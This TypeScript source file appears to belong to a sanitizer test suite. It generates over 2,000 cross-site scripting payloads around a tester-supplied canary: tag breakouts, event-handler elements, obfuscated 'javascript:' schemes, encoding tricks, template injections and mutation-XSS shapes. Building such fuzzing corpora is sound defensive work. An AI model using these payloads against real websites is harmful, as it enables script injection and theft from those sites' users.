import { Random } from "../security/random.ts";

/** What a payload does when it runs, and what it asks for when it only loads: both are seen by the test. */
export interface Canary {
  /** JavaScript without quotes, spaces or angle brackets, so that it fits into every place. */
  readonly code: string;
  /** An address of a server that counts who asks. */
  readonly url: string;
}

type Made = (canary: Canary) => string;

/** How people try to leave the place in which their text stands. */
const BREAKS = [
  "",
  '">',
  "'>",
  "`>",
  '" x="',
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</svg>",
  "</pre></blockquote></li></ol></main>",
  "<!--><",
  "<![CDATA[",
  "\u0000",
  "&quot;>",
] as const;

/** Elements that run or load something by themselves; `_` is where a separator may stand, `C` the code, `U` the canary. */
const ELEMENTS = [
  "<img_src=x_onerror=C>",
  '<img_src="x"_onerror="C">',
  "<img_src='x'_onerror='C'",
  "<image_src=x_onerror=C>",
  "<img_src=U>",
  "<img_srcset=U>",
  "<svg_onload=C>",
  '<svg_onload="C"/>',
  "<svg><script>C</script></svg>",
  "<svg><script_href=data:,C />",
  "<svg><animate_onbegin=C_attributeName=x_dur=1s>",
  "<svg><set_onbegin=C_attributeName=x>",
  "<svg><use_href=U#x />",
  "<svg><image_href=U />",
  "<svg><a_xlink:href=javascript:C><text_y=20>x</text></a></svg>",
  "<body_onload=C>",
  "<body_onpageshow=C>",
  "<body_background=U>",
  "<video><source_onerror=C_src=x></video>",
  "<video_poster=U></video>",
  "<audio_src=x_onerror=C>",
  "<input_autofocus_onfocus=C>",
  "<input_type=image_src=x_onerror=C>",
  "<select_autofocus_onfocus=C></select>",
  "<textarea_autofocus_onfocus=C></textarea>",
  "<button_autofocus_onfocus=C>x</button>",
  "<a_href=#_autofocus_onfocus=C>x</a>",
  "<x_tabindex=1_autofocus_onfocus=C>x</x>",
  "<x_contenteditable_autofocus_onfocus=C>x</x>",
  "<details_open_ontoggle=C>x</details>",
  "<marquee_onstart=C>x</marquee>",
  "<iframe_onload=C></iframe>",
  "<iframe_src=U></iframe>",
  "<iframe_src=javascript:parent.C></iframe>",
  "<iframe_srcdoc='<script>parent.C</script>'></iframe>",
  "<object_data=U></object>",
  "<embed_src=U>",
  "<script>C</script>",
  "<script_src=U></script>",
  "<script_type=module>C</script>",
  "<script_async_src=data:text/javascript,C></script>",
  "<style_onload=C></style>",
  "<style>@import_'U';</style>",
  "<style>*{background:url(U)}</style>",
  "<div_style=background:url(U)>x</div>",
  "<link_rel=stylesheet_href=U>",
  "<link_rel=preload_as=image_href=U>",
  "<link_rel=prefetch_href=U>",
  "<meta_http-equiv=refresh_content=0;url=U>",
  "<base_href=U><img_src=relative>",
  "<math><maction_actiontype=statusline_xlink:href=javascript:C>x</maction></math>",
  "<form_action=javascript:C><button_autofocus>x</button></form>",
  "<p_style=animation:x_onanimationstart=C>x</p><style>@keyframes_x{}</style>",
] as const;

/** Between a tag and its attributes. */
const SEPARATORS = [" ", "\t", "\n", "\f", "/", "  /  ", "\r\n"] as const;

/** How one scheme is spelled so that a filter misses it and a browser does not. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript\t:",
  "&#106;avascript:",
  "&#x6A;avascript&colon;",
  "javascript&#58;",
  "jav&Tab;ascript:",
  "jav&NewLine;ascript:",
  "%6Aavascript:",
  "javascript:%0a",
  "javascript://%0a",
  "javascript://https://github.com/%0a",
  "javascript:/*https://github.com/*/",
  "vbscript:",
  "view-source:javascript:",
  "feed:javascript:",
  "\u202Ejavascript:",
  "java\u200Bscript:",
  "jаvascript:",
] as const;

/** Where an address may stand. */
const ADDRESSED = [
  '<a href="S">x</a>',
  "<a href='S'>x</a>",
  "<a href=S>x</a>",
  '<iframe src="S"></iframe>',
  '<object data="S"></object>',
  '<form action="S"><input type=submit autofocus></form>',
  "S",
  "[x](S)",
  "![x](S)",
  "<S>",
] as const;

/** Attributes for a place that only forgot to escape one kind of quote. */
const IN_ATTRIBUTES = ['" C0="', "' C0='", "` C0=`", " C0 ", '"\tC0\t"', "'/C0/'"] as const;
const HANDLERS = [
  "autofocus tabindex=1 onfocus=C",
  "onmouseover=C style=position:fixed;inset:0",
  "onpointerrawupdate=C",
  "onclick=C",
  "style=background:url(U)",
  "onerror=C src=x",
  "onload=C",
  "onanimationend=C style=animation:spin",
  "srcdoc=<script>C</script>",
  "formaction=javascript:C",
] as const;

/** Texts that a second reading turns into markup: entities, other spellings, templates, scripts around them. */
const SECOND_READINGS = [
  "&lt;img src=x onerror=C&gt;",
  "&#60;img src=x onerror=C&#62;",
  "&#x3c;img src=x onerror=C&#x3e;",
  "&#0000060img src=x onerror=C>",
  "&amp;lt;img src=x onerror=C&amp;gt;",
  "\\u003cimg src=x onerror=C\\u003e",
  "\\x3cimg src=x onerror=C\\x3e",
  "%3Cimg src=x onerror=C%3E",
  "%253Cimg src=x onerror=C%253E",
  "\uFF1Cimg src=x onerror=C\uFF1E",
  "\u2039script\u203AC\u2039/script\u203A",
  "+ADw-script+AD4-C+ADw-/script+AD4-",
  "<\u200Bimg src=x onerror=C>",
  "<\u0000img src=x onerror=C>",
  "<\u0000script>C</\u0000script>",
  "<%00script>C</script>",
  "{{constructor.constructor(`C`)()}}",
  "{{C}}",
  "${C}",
  "#{C}",
  "<%= C %>",
  "[[${C}]]",
  "{% C %}",
  "'-C-'",
  '"-C-"',
  "\\';C//",
  '\\";C//',
  "\u2028C//",
  "</script><script>C//",
  '"});C;({"',
  "<!--#exec cmd=x-->",
  "<?xml version=1?><x onload=C />",
] as const;

/** Shapes that change when a browser writes what it read and reads it again, or that swallow what follows. */
const MUTATIONS = [
  "<svg><style><img src=x onerror=C></style></svg>",
  "<math><style><img src=x onerror=C></style></math>",
  '<svg></p><style><a id="</style><img src=x onerror=C>">',
  '<noscript><p title="</noscript><img src=x onerror=C>">',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=C&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=C>",
  '<template><style></template><img src=x onerror=C title="</style>">',
  "<xmp><p title='</xmp><img src=x onerror=C>'>",
  "<listing>&lt;img src=x onerror=C&gt;</listing>",
  "<div><template shadowrootmode=open><img src=x onerror=C></template></div>",
  "<select><option><style></select><img src=x onerror=C></style>",
  "<table><td><svg><desc><td><img src=x onerror=C>",
  "<title><svg></title><img src=x onerror=C>",
  "<textarea><p title='</textarea><img src=x onerror=C>'>",
  "<!--[if gte IE 4]><img src=x onerror=C><![endif]-->",
  "<![CDATA[><img src=x onerror=C>]]>",
  "<!--><img src=x onerror=C>-->",
  "<!-- --!><img src=x onerror=C> -->",
  "<<img src=x onerror=C>",
  "<img <img src=x onerror=C>",
  '<img src="x` `<script>C</script>"` `>',
  "<img src='U?",
  '<a href="U?',
  "<plaintext>",
  "<iframe><img src=x onerror=C>",
  "</main><script>C</script><main>",
  "</body></html><script>C</script>",
] as const;

/** Every payload once, more than 2,000; the same every time. */
export function markupPayloads(canary: Canary): readonly string[] {
  return [...new Set(MADE.map((made) => made(canary)))];
}

/** So many payloads: every bare address, then some of every other family; the same seed chooses the same. */
export function someMarkupPayloads(canary: Canary, count: number, seed: number): readonly string[] {
  const all = [...markupPayloads(canary)];
  const random = new Random(seed);
  for (let last = all.length - 1; last > 0; last -= 1) {
    const other = random.below(last + 1);
    [all[last], all[other]] = [all[other] ?? "", all[last] ?? ""];
  }
  const addresses = SCHEMES.map((scheme) => `${scheme}${canary.code}`);
  return [...new Set([...addresses, ...all])].slice(0, count);
}

const filled =
  (shape: string): Made =>
  ({ code, url }) =>
    shape
      .replaceAll("parent.C", `parent.${code}`)
      .replaceAll(/\bC\b/gu, () => code)
      .replaceAll(/\bU\b/gu, () => url);

/** Whole documents in an address. */
const DOCUMENTS: readonly Made[] = [
  ({ url }) => `data:text/html,<img%20src=${url}>`,
  ({ url }) => `data:text/html;base64,${Buffer.from(`<img src=${url}>`).toString("base64")}`,
  ({ url }) => url,
  ({ url }) => url.replace("http:", ""),
  ({ url }) => url.replace("http://", "\\\\"),
];

const addressed =
  (place: string, address: Made): Made =>
  (canary) =>
    place.replaceAll("S", () => address(canary));

const MADE: readonly Made[] = [
  ...ELEMENTS.flatMap((element, index) =>
    BREAKS.map((before, other) => {
      const separator = SEPARATORS[(index + other) % SEPARATORS.length] ?? " ";
      const shape = `${before}${element.replaceAll("_", () => separator)}`;
      return filled(cased(shape, (index + other) % 3));
    }),
  ),
  ...SCHEMES.flatMap((scheme) => ADDRESSED.map((place) => addressed(place, ({ code }) => `${scheme}${code}`))),
  ...DOCUMENTS.flatMap((written) => ADDRESSED.map((place) => addressed(place, written))),
  ...IN_ATTRIBUTES.flatMap((place) => HANDLERS.map((handler) => filled(place.replace("C0", () => handler)))),
  ...SECOND_READINGS.flatMap((text) => ["", '">'].map((before) => filled(`${before}${text}`))),
  ...MUTATIONS.flatMap((text) => ["", "'>", "</title></textarea>"].map((before) => filled(`${before}${text}`))),
];

/** The names of elements and events in another case; code and addresses stay. */
function cased(shape: string, kind: number): string {
  if (kind === 0) return shape;
  return shape.replaceAll(/(?<=<\/?)[a-z]+|\bon[a-z]+(?==)/gu, (name) =>
    kind === 1
      ? name.toUpperCase()
      : name.replaceAll(/(?<=.)./gu, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  );
}
